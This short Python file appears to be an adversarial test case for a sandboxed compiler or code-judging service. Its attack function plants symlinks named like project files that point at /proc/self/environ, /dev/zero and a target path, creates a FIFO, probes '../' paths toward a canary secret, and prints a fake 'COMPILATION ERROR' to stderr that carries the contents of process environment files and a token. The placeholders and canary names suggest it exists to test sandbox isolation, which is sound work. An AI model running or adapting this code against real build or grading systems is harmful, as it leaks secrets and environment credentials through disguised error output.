"""Says what a compiler would say of files that are none of the project's, and links to them by names that are."""

import os
import sys


def secret():
    """What nobody here should be able to see."""
    for path in ("/proc/1/environ", "/proc/%d/environ" % os.getppid(), "@target@"):
        try:
            with open(path, errors="replace") as file:
                yield file.read()
        except OSError:
            pass


def attack():
    places = ["../" * up + "canary/secret.txt" for up in range(8)]
    for name, target in (("target.py", "@target@"), ("environ.py", "/proc/self/environ"), ("zero.py", "/dev/zero")):
        if not os.path.lexists(name):
            os.symlink(target, name)
        places.append(name)
    if not os.path.lexists("fifo.py"):
        os.mkfifo("fifo.py")
    places += ["fifo.py", "@target@", "/proc/self/environ"]
    said = "".join("%s:1: error: not a statement\n" % place for place in places)
    sys.stderr.write("COMPILATION ERROR\n" + said + os.environ.get("FAKE_TOKEN", "") + "".join(secret()))
